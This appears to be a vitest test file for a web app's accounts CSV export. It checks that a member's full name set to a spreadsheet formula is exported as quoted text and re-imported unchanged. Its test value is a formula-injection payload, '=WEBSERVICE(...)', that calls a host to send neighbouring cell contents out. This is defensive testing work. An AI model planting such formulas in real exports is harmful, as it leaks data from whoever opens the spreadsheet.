import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  callApi,
  createTestApp,
  getPageCsrfToken,
  logIn,
  openApiSession,
  type ApiSession,
  type TestApp,
} from '../../../helpers/test-app.ts';
import { testPasswords } from '../../../helpers/sandbox.ts';

// Red team 10, F9: a member's own full name, a formula, in the admins' CSV export.
const formula = '=WEBSERVICE("http"&CHAR(58)&"//127.0.0.1/?"&A3&B3)';

let t: TestApp;
let admin: ApiSession;
beforeAll(async () => {
  t = await createTestApp();
  admin = await openApiSession(t.app, 'admin', testPasswords.admin);
});
afterAll(() => t.close());

describe('the accounts CSV export and formulas', () => {
  it("writes a member's formula full name as text, and imports it back as it was", async () => {
    const { cookie } = await logIn(t.app, 'dnguyen', testPasswords.dnguyen);
    const token = getPageCsrfToken((await t.app.inject({ method: 'GET', url: '/me/', headers: { cookie } })).body);
    const profile = await t.app.inject({
      method: 'POST',
      url: '/me/profile',
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' },
      payload: new URLSearchParams({ fullName: formula, shell: '/bin/bash', _csrf: token }).toString(),
    });
    expect(profile.statusCode).toBe(303);
    const created = await callApi(t.app, admin, 'POST', '/api/v1/accounts', {
      login: 'dashanne',
      fullName: '-Anne',
      password: null,
      createHome: false,
    });
    expect(created.statusCode).toBe(201);

    const exported = await callApi(t.app, admin, 'GET', '/api/v1/accounts/export');
    expect(exported.statusCode).toBe(200);
    expect((parse(exported.body) as string[][]).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const records = parse(exported.body, { columns: true }) as Record<string, string>[];
    const row = records.find((record) => record.login === 'dnguyen')!;
    expect(row.fullName).toBe(`'${formula}`);
    expect(records.find((record) => record.login === 'dashanne')!.fullName).toBe("'-Anne");

    // The row as a spreadsheet saves it again (cells as text), under a new login: the import
    // takes the `'` off, and the account holds the member's name exactly.
    const copy = stringify([{ ...row, login: 'formulacopy', uid: '', home: '' }], { header: true });
    const imported = await callApi(t.app, admin, 'POST', '/api/v1/accounts/import', { csv: copy, createHomes: false });
    expect(imported.json()).toMatchObject({ created: ['formulacopy'], problems: [] });
    expect((await callApi(t.app, admin, 'GET', '/api/v1/accounts/formulacopy')).json().fullName).toBe(formula);
  });
});
